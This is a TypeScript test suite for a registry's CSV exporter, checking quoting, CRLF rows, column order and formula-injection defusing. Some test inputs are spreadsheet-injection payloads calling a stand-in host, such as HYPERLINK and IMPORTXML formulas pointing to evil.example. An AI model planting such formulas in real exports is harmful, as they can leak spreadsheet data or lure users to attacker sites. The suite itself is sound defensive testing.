import fc from "fast-check";
import Papa from "papaparse";
import { describe, expect, it } from "vitest";
import { csvColumns, csvField, csvHeader, csvLine, csvRow } from "@/lib/open-data/csv";
import { exampleEntry } from "@/lib/open-data/examples";

const parse = (text: string) => Papa.parse<string[]>(text, { delimiter: ",", newline: "\r\n", quoteChar: '"' });

/** The rows of a whole file: every line ends with CRLF, so the parser's empty row after the last one is dropped. */
function rows(text: string): string[][] {
  expect(text.endsWith("\r\n")).toBe(true);
  const result = parse(text.slice(0, -2));
  expect(result.errors).toEqual([]);
  return result.data;
}

const tricky = fc.string({ unit: fc.constantFrom(",", '"', "\r", "\n", "=", "+", "-", "@", "\t", "'", " ", "a", "é", "😀") });

describe("csvField", () => {
  it("leaves plain text, numbers and booleans as they are and writes null as an empty field", () => {
    expect(csvField("Example Cloud")).toBe("Example Cloud");
    expect(csvField(3)).toBe("3");
    expect(csvField(false)).toBe("false");
    expect(csvField(null)).toBe("");
    expect(csvField("")).toBe("");
  });

  it("quotes fields with a comma, quote, CR or LF and doubles the quotes inside", () => {
    expect(csvField("Acme, Inc.")).toBe('"Acme, Inc."');
    expect(csvField('The "Good" Cloud')).toBe('"The ""Good"" Cloud"');
    expect(csvField("line one\nline two")).toBe('"line one\nline two"');
    expect(csvField("a\r\nb")).toBe('"a\r\nb"');
    expect(csvField('"')).toBe('""""');
  });

  it("defuses spreadsheet formulas: a leading = + - @ tab or CR gets an apostrophe", () => {
    expect(csvField('=HYPERLINK("http://evil.example","click")')).toBe('"\'=HYPERLINK(""http://evil.example"",""click"")"');
    expect(csvField("+1 555")).toBe("'+1 555");
    expect(csvField("-2+3")).toBe("'-2+3");
    expect(csvField("@SUM(A1)")).toBe("'@SUM(A1)");
    expect(csvField("\t=cmd")).toBe("'\t=cmd");
    // A leading CR both needs the guard and forces quoting; the apostrophe sits inside the quotes.
    expect(csvField("\r=cmd")).toBe('"\'\r=cmd"');
    expect(csvField("=1,2")).toBe('"\'=1,2"');
  });

  it("does not touch those characters when they are not at the start", () => {
    expect(csvField("Tech=Good")).toBe("Tech=Good");
    expect(csvField("a-b")).toBe("a-b");
    expect(csvField("ops@example.org")).toBe("ops@example.org");
  });

  it("round-trips through an RFC 4180 parser for any text (apostrophe added only where guarded)", () => {
    fc.assert(
      // Mostly the characters that matter to quoting and the formula guard, plus ordinary text.
      fc.property(fc.array(fc.oneof(tricky, fc.string({ unit: "grapheme-composite" })), { minLength: 1, maxLength: 6 }), (fields) => {
        const line = csvLine(fields);
        expect(line.endsWith("\r\n")).toBe(true);
        const result = parse(line);
        expect(result.errors).toEqual([]);
        expect(result.data[0]).toEqual(fields.map((f) => (/^[=+\-@\t\r]/.test(f) ? `'${f}` : f)));
      }),
    );
  });
});

describe("csvHeader and csvRow", () => {
  it("writes the documented columns in order, ending every line with CRLF", () => {
    expect(csvHeader()).toBe(
      "slug,name,legal_name,domain,website,country,country_name,sector,status,report_overdue,accord_version,content_hash,signer_name,signer_title,signed_at,withdrawn_at,verification_method,verified_at,commitment_count,report_count,last_report_at,profile_url\r\n",
    );
    for (const column of csvColumns) expect(column.meaning.length).toBeGreaterThan(5);
  });

  it("maps an entry to one row matching the header, with absolute profile URLs and empty cells for nulls", () => {
    const text = csvHeader() + csvRow(exampleEntry, "https://registry.example.org");
    const [header, row, ...rest] = rows(text);
    expect(rest).toEqual([]);
    const record = Object.fromEntries(header!.map((name, i) => [name, row![i]]));
    expect(record).toEqual({
      slug: "example-cloud",
      name: "Example Cloud",
      legal_name: "Example Cloud Ltd",
      domain: "example-cloud.example",
      website: "https://example-cloud.example",
      country: "KE",
      country_name: "Kenya",
      sector: "cloud-and-hosting",
      status: "active",
      report_overdue: "false",
      accord_version: "1",
      content_hash: exampleEntry.contentHash,
      signer_name: "Ada Example",
      signer_title: "Chief Executive Officer",
      signed_at: "2025-03-14T09:30:00.000Z",
      withdrawn_at: "",
      verification_method: "dns_txt",
      verified_at: "2025-03-13T16:05:00.000Z",
      commitment_count: "3",
      report_count: "1",
      last_report_at: "2026-02-02T11:00:00.000Z",
      profile_url: "https://registry.example.org/signatories/example-cloud",
    });
  });

  it("keeps a hostile organisation's text inert and on one row", () => {
    const hostile = { ...exampleEntry, name: '=IMPORTXML("http://evil.example","//a")', legalName: "Evil,\r\nInc.", signer: { name: "@me", title: '-"boss"' } };
    const [row, ...rest] = rows(csvRow(hostile, "https://r.example"));
    expect(rest).toEqual([]);
    expect(row).toHaveLength(csvColumns.length);
    expect(row![1]).toBe('\'=IMPORTXML("http://evil.example","//a")');
    expect(row![2]).toBe("Evil,\r\nInc.");
    expect(row![12]).toBe("'@me");
    expect(row![13]).toBe('\'-"boss"');
  });
});
